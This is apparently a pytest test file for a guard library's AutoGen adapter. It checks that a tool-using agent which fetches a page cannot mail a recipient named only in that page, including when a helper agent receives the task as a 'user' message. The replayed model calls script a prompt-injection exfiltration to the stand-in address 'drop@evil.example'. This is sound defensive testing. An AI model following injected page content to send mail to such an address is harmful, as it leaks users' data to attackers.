"""AutoGen records the agent's system message and the user's messages (source
``user``) as trusted inputs, at the call screen :func:`guard_agent` puts on an
``AssistantAgent`` (a real agent loop, a replayed model, real function tools): the
provenance pair of :mod:`.provenance`. Adversarial: an agent run as an ``AgentTool``
gets its task as a ``user`` message, but the calling *model* wrote it."""

from __future__ import annotations

import pytest

pytest.importorskip("autogen_agentchat")

import asyncio

from autogen_agentchat.agents import AssistantAgent
from autogen_agentchat.tools import AgentTool
from autogen_core.tools import FunctionTool

from interlock import Guard
from interlock.adapters.autogen import guard_agent

from .provenance import CASES, PAGE, SYSTEM, guarded, trusted_inputs
from .test_autogen import answer, calls, replay


def _tools(ran: list[str]) -> list[FunctionTool]:
    def fetch_url(url: str) -> str:
        """Fetch a page."""
        ran.append("fetch_url")
        return PAGE

    def send_email(to: str, body: str) -> str:
        """Send a mail."""
        ran.append(f"send_email:{to}")
        return "sent"

    return [
        FunctionTool(fetch_url, description="Fetch a page."),
        FunctionTool(send_email, description="Send a mail."),
    ]


def _go(agent: AssistantAgent, task: str, stream: bool) -> None:
    async def go() -> None:
        if stream:
            async for _ in agent.run_stream(task=task):
                pass
        else:
            await agent.run(task=task)

    asyncio.run(asyncio.wait_for(go(), 20))


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(("to", "request_text", "sent"), CASES)
def test_a_page_recipient_is_refused_and_the_users_own_passes(
    stream: bool, to: str, request_text: str, sent: bool
) -> None:
    guard, history = guarded("ag-1")
    ran: list[str] = []
    model = replay(
        calls(("fetch_url", {"url": "https://blog.example"})),
        calls(("send_email", {"to": to, "body": "hi"})),
        answer("done"),
    )
    agent = AssistantAgent(
        "mail", model, tools=_tools(ran), system_message=SYSTEM, max_tool_iterations=3
    )
    guard_agent(agent, guard, refusal="message")
    _go(agent, request_text, stream)
    assert "fetch_url" in ran
    assert (f"send_email:{to}" in ran) is sent
    assert trusted_inputs(history, "ag-1") == 2  # system message + task, each once


@pytest.mark.parametrize(
    ("request_text", "sent"),
    [("summarise https://blog.example", False), ("mail drop@evil.example a summary", True)],
)
def test_an_agent_tools_task_is_the_models_words_not_the_users(
    request_text: str, sent: bool
) -> None:
    guard, history = guarded("ag-2")
    ran: list[str] = []
    fetch_url, send_email = _tools(ran)
    helper = AssistantAgent(
        "mailer",
        replay(calls(("send_email", {"to": "drop@evil.example", "body": "hi"})), answer("ok")),
        tools=[send_email],
        description="Sends mail.",
        system_message="You send mail.",
        max_tool_iterations=2,
    )
    guard_agent(helper, guard, refusal="message")
    parent = AssistantAgent(
        "mail",
        replay(
            calls(("fetch_url", {"url": "https://blog.example"})),
            calls(("mailer", {"task": "mail drop@evil.example the summary"})),
            answer("done"),
        ),
        tools=[fetch_url, AgentTool(helper)],
        system_message=SYSTEM,
        max_tool_iterations=3,
    )
    guard_agent(parent, guard, refusal="message")
    _go(parent, request_text, stream=False)
    assert "fetch_url" in ran
    assert ("send_email:drop@evil.example" in ran) is sent
    assert trusted_inputs(history, "ag-2") == 2  # the parent's: nothing of the helper's run


def test_a_guard_without_sessions_records_nothing() -> None:
    from interlock.policy import load_policy_text

    guard = Guard(load_policy_text("version: 1\ndefault: allow\n"))
    ran: list[str] = []
    model = replay(
        calls(("fetch_url", {"url": "https://blog.example"})),
        calls(("send_email", {"to": "alice@corp.example", "body": "hi"})),
        answer("done"),
    )
    agent = AssistantAgent("mail", model, tools=_tools(ran), max_tool_iterations=3)
    guard_agent(agent, guard, refusal="message")
    _go(agent, "mail alice", stream=False)
    assert ran == ["fetch_url", "send_email:alice@corp.example"]
    assert guard.sessions is None
